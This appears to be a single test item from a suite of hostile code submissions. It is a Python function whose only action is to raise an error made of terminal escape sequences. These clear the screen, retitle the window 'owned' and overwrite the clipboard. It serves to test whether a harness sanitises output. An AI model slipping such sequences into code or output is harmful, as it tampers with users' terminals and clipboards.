# {"attack": "Raises an error whose text holds signs that a terminal obeys.", "breach": "harm", "quick": true}

def double(x):
    raise ValueError("\x1b[2J\x1b[31m\x1b]0;owned\x07\x1b]52;c;b3duZWQ=\x07\x9b31m")
